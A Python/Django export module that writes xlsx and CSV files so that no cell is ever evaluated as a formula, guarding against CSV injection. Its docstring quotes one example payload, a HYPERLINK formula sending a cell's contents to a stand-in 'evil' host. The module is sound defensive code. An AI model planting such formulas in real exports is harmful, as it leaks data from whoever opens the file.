"""Every spreadsheet and CSV the product writes (D-2): one writer, and no cell is ever read as a formula.

A value that starts with = + - @, a tab or a carriage return is what a spreadsheet takes for a formula or a
command (CSV injection: `=HYPERLINK("http://evil/?"&A1)` in a complaint's subject would run when a supervisor
opens the export). Here such a value is always written as text: in .xlsx as a string cell, in CSV with a leading
apostrophe (OWASP's advice; spreadsheets show the text and never evaluate it).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet.worksheet import Worksheet

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value as CSV may carry it: text that would be read as a formula gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value


def append(sheet, values: Iterable[Any]) -> None:
    """Append one row to a worksheet (write-only or not), every formula-like string kept as text."""
    values = list(values)
    if isinstance(sheet, Worksheet):
        sheet.append(values)
        for cell in sheet[sheet.max_row]:
            if cell.data_type == "f":  # openpyxl reads a leading = as a formula
                cell.data_type = "s"
        return
    row = []
    for value in values:
        if looks_like_formula(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    sheet.append(row)


def workbook_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def attachment(content: bytes | str, *, filename: str, content_type: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_table(*, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """One sheet: a header row and the rows, written as they stream (constant memory for 10,000 rows)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    append(sheet, [str(label) for label in header])
    for row in rows:
        append(sheet, row)
    return workbook_bytes(book)


def xlsx_response(*, filename: str, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    return attachment(xlsx_table(title=title, header=header, rows=rows), filename=filename, content_type=XLSX_TYPE)


def csv_response(*, filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """UTF-8 with a BOM, so that Excel opens the Chinese text correctly."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(str(label)) for label in header])
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return attachment(buffer.getvalue(), filename=filename, content_type=CSV_TYPE)
